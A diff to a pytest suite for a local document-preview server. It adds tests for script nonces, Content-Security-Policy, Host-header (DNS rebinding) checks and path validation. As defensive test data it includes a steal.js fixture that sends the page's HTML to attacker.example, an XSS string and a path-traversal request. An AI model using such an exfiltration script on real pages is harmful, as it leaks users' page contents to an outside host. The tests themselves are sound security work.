@@ -18,7 +18,7 @@ import pytest
 from renderer.config import Config
 from renderer.layouts import LAYOUTS_DIR
 from renderer.preview import Preview
-from tests.conftest import SEED_SLUG, small_catalog
+from tests.conftest import ROOT, SEED_SLUG, small_catalog
 
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
 
@@ -53,7 +53,7 @@ def test_dossier_page_is_the_layout_html_at_the_fitted_scale(tmp_path: Path):
     preview = make_preview(small_catalog(tmp_path))
     view = preview.view(SEED_SLUG)
     assert view.pdf.startswith(b"%PDF") and len(pypdf.PdfReader(io.BytesIO(view.pdf)).pages) == 1
-    page = preview.dossier_page(SEED_SLUG, view)
+    page = preview.dossier_page(SEED_SLUG, view, "n0nce")
     assert f'style="--scale: {view.scale}"' in page
     assert page.index('<base href="/layout/">') < page.index('href="dossier.css"')
     assert f'data-generation="{preview.snapshot.generation}"' in page
@@ -62,18 +62,40 @@ def test_dossier_page_is_the_layout_html_at_the_fitted_scale(tmp_path: Path):
     assert preview.view(SEED_SLUG) is view  # nothing changed: not rendered again
 
 
+def test_only_the_previews_own_script_may_run_on_a_dossier_page(tmp_path: Path):
+    layout = tmp_path / "my-layout"
+    shutil.copytree(LAYOUTS_DIR / "memo", layout)
+    (layout / "steal.js").write_text(
+        "location = 'https://attacker.example/?' + document.body.innerHTML"
+    )
+    set_line(layout / "dossier.html.j2", "</head>", '<script src="steal.js"></script></head>')
+    preview = Preview(
+        small_catalog(tmp_path), lambda: Config(layout=str(layout)), say=lambda text: None
+    )
+    page = preview.dossier_page(SEED_SLUG, preview.view(SEED_SLUG), "n0nce")
+    scripts = re.findall(r"<script\b[^>]*>", page)
+    assert len(scripts) == 2 and '<script src="steal.js">' in scripts
+    assert [tag for tag in scripts if 'nonce="n0nce"' in tag] == [
+        tag for tag in scripts if "/_preview/live.js" in tag
+    ]
+    generation = preview.snapshot.generation
+    own = f'<script src="/_preview/live.js" nonce="n0nce" data-generation="{generation}" defer>'
+    for page in (preview.index_page("n0nce"), preview.problems_page("x", [], "n0nce")):
+        assert re.findall(r"<script\b[^>]*>", page) == [own]
+
+
 def test_record_text_never_becomes_markup_on_any_page(tmp_path: Path):
     records = small_catalog(tmp_path)
     seed = records / f"{SEED_SLUG}.yaml"
     set_line(seed, "question: ", "question: <script>alert(1)</script> ")
     preview = make_preview(records)
-    page = preview.dossier_page(SEED_SLUG, preview.view(SEED_SLUG))
+    page = preview.dossier_page(SEED_SLUG, preview.view(SEED_SLUG), "n0nce")
     assert "<script>alert" not in page and "&lt;script&gt;alert(1)" in page
     set_line(seed, "  match: 98", "  match: <b>98</b>")
     preview.refresh({seed})
-    problems = preview.problems_page(SEED_SLUG, preview.view(SEED_SLUG).problems)
+    problems = preview.problems_page(SEED_SLUG, preview.view(SEED_SLUG).problems, "n0nce")
     assert "<b>98" not in problems and "&lt;b&gt;98" in problems
-    assert "<b>98" not in preview.index_page()
+    assert "<b>98" not in preview.index_page("n0nce")
 
 
 def test_problems_show_with_file_line_and_field(tmp_path: Path):
@@ -84,9 +106,9 @@ def test_problems_show_with_file_line_and_field(tmp_path: Path):
     view = preview.view(SEED_SLUG)
     assert view.html is None
     line = seed.read_text().splitlines().index("  match: 198") + 1
-    page = preview.problems_page(SEED_SLUG, view.problems)
+    page = preview.problems_page(SEED_SLUG, view.problems, "n0nce")
     assert f"{seed}:{line}</code> related[0].match:" in page
-    assert 'class="invalid"' in preview.index_page()
+    assert 'class="invalid"' in preview.index_page("n0nce")
 
 
 def test_a_broken_layout_shows_on_every_page_until_fixed(tmp_path: Path):
@@ -100,9 +122,9 @@ def test_a_broken_layout_shows_on_every_page_until_fixed(tmp_path: Path):
     preview.refresh({settings})
     view = preview.view(SEED_SLUG)
     assert view.html is None
-    expected = f"{settings}: page_text: must be a whole number ≥ 100"
+    expected = f"{settings}: page_text: must be a whole number from 100 to 100000"
     assert [str(problem) for problem in view.problems] == [expected]
-    assert "must be a whole number" in preview.index_page()
+    assert "must be a whole number" in preview.index_page("n0nce")
     assert preview.asset("/layout/dossier.css") is None
     settings.write_text("page_text = 4200\n")
     preview.refresh({settings})
@@ -127,6 +149,7 @@ def start_preview(records: Path, *args: str) -> tuple[subprocess.Popen, str]:
     process = subprocess.Popen(
         [sys.executable, "-m", "renderer", "preview", "--records", records, "--port", "0", *args],
         cwd=records.parent,
+        env={**os.environ, "PYTHONPATH": str(ROOT)},  # this checkout's code, wherever it runs
         stderr=subprocess.PIPE,
         text=True,
         # Ctrl-C as in a terminal, even when these tests run where SIGINT is ignored (a shell's
@@ -289,3 +312,72 @@ def test_a_config_that_names_another_layout_has_that_layout_watched(tmp_path: Pa
         assert changes_after(lambda: css.write_text(css.read_text() + "\nh1 { color: red; }\n"))
     finally:
         stop_preview(process)
+
+
+def raw_request(url: str, request_line: bytes, host: bytes | None) -> tuple[int, bytes]:
+    """A request as sent by hand (no client library fixes it up): the status and the body."""
+    headers = b"" if host is None else b"Host: " + host + b"\r\n"
+    if len(request_line) > 65536:
+        # http.server reads 65537 bytes of a request line, answers 414 and closes; bytes it
+        # never read would make the close a reset that can lose the answer: send no more
+        request = request_line[:65537]
+    else:
+        request = request_line + b"\r\n" + headers + b"Connection: close\r\n\r\n"
+    port = int(re.search(r":(\d+)/", url).group(1))
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
+        connection.sendall(request)
+        answer = b""
+        while chunk := connection.recv(65536):
+            answer += chunk
+    head, _, body = answer.partition(b"\r\n\r\n")
+    return int(head.split(b" ")[1]), body
+
+
+def test_answers_only_to_its_own_name_and_well_formed_paths(tmp_path: Path):
+    """DNS rebinding: a page whose domain points at 127.0.0.1 sends its own name as Host."""
+    process, url = start_preview(small_catalog(tmp_path))
+    port = url.split(":")[2].rstrip("/").encode()
+    here = b"127.0.0.1:" + port
+    refused = b"this preview answers only to 127.0.0.1:%s and localhost:%s\n" % (port, port)
+    cases = [
+        (b"GET / HTTP/1.1", here, 200, b"<!DOCTYPE html>"),
+        (b"GET /layout/dossier.css HTTP/1.1", b"localhost:" + port, 200, b"/*"),
+        (b"GET / HTTP/1.1", b"attacker.example", 421, refused),
+        (b"GET /sdet.pdf HTTP/1.1", b"attacker.example:" + port, 421, refused),
+        (b"GET /sdet.pdf HTTP/1.1", b"127.0.0.1", 421, refused),
+        (b"GET / HTTP/1.0", None, 421, refused),
+        (b"GET /%00 HTTP/1.1", here, 400, b"the path holds a control character\n"),
+        (b"GET /layout/a%00.css HTTP/1.1", here, 400, b"the path holds a control character\n"),
+        (b"GET /layout/%zz HTTP/1.1", here, 400, b"% in a path must be followed by two hex"),
+        (b"GET /layout/%ff%fe HTTP/1.1", here, 400, b"the path is not UTF-8 text\n"),
+        (b"GET /\xff HTTP/1.1", here, 400, b"a path is ASCII text, other characters percent"),
+        (b"GET /layout/" + b"a" * 2000 + b" HTTP/1.1", here, 414, b"the path is longer than 2000"),
+        (b"GET /layout/" + b"a" * 70_000, here, 414, b"<!DOCTYPE HTML>"),  # http.server's own
+        (b"GET /layout/" + b"a" * 1900 + b" HTTP/1.1", here, 404, b"not found\n"),
+        (b"GET http://[::1 HTTP/1.1", here, 400, b"not a path\n"),
+        (b"GET /layout/" + b"%2e%2e/" * 3 + b"pyproject.toml HTTP/1.1", here, 404, b"not found\n"),
+    ]
+    try:
+        answers = [raw_request(url, line, host) for line, host, _, _ in cases]
+    finally:
+        errors = stop_preview(process)
+    for (line, host, status, body), (got_status, got_body) in zip(cases, answers, strict=True):
+        assert (got_status, got_body.startswith(body)) == (status, True), (line[:40], host)
+    assert "Traceback" not in errors and "Error" not in errors, errors
+
+
+def test_every_page_gets_its_own_script_nonce(tmp_path: Path):
+    import urllib.request
+
+    process, url = start_preview(small_catalog(tmp_path))
+    try:
+        nonces = []
+        for _ in range(2):
+            with urllib.request.urlopen(url, timeout=20) as response:
+                policy = response.headers["Content-Security-Policy"]
+                nonce = re.search(r"script-src 'nonce-([A-Za-z0-9_-]{22})';", policy).group(1)
+                assert f'src="/_preview/live.js" nonce="{nonce}"' in response.read().decode()
+                nonces.append(nonce)
+    finally:
+        stop_preview(process)
+    assert nonces[0] != nonces[1]
